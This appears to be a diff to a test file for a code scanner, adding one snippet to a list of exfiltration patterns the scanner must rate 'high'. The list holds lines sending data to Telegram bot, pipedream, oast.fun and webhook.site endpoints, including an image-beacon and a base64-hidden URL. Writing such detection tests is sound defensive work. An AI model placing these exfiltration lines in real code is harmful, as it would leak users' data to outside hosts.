@@ -13,6 +13,7 @@ test("bad: what it looks for", () => {
     "post(`https://api.telegram.org/bot${t}/sendMessage`)",
     "new URL(\"https://eo1.m.pipedream.net\")",
     "request({ hostname: \"x.oast.fun\" })",
+    "picture.src = \"//webhook.site/1-2?v=\" + text",
     "go(atob(\"aHR0cHM6Ly93ZWJob29rLnNpdGUveA==\"))",
   ]) assert.equal(worst(code), 'high', code);
 });
